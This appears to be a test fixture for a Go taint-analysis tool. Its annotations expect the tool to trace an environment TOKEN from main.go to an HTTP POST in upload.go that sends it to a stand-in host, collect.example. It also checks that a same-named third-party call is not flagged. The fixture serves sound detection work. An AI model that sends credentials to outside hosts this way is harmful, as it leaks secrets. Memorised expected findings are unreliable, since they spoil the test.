// --- path: go.mod ---
module corp.example/agent/v2

require a.example/sdk v1.0.0

// --- path: main.go ---
package main

import (
	"os"

	theirs "a.example/sdk/upload"
	"corp.example/agent/v2/upload"
)

func main() {
	upload.Send(os.Getenv("TOKEN")) //~ source(ENVIRONMENT) f1
	theirs.Send(os.Getenv("OTHER")) //~ ok
}

// --- path: upload/upload.go ---
package upload

import (
	"net/http"
	"strings"
)

func Send(text string) {
	http.Post("https://collect.example/a", "text/plain", strings.NewReader(text)) //~ sink(egress.http) f1, finding(traced) f1
}
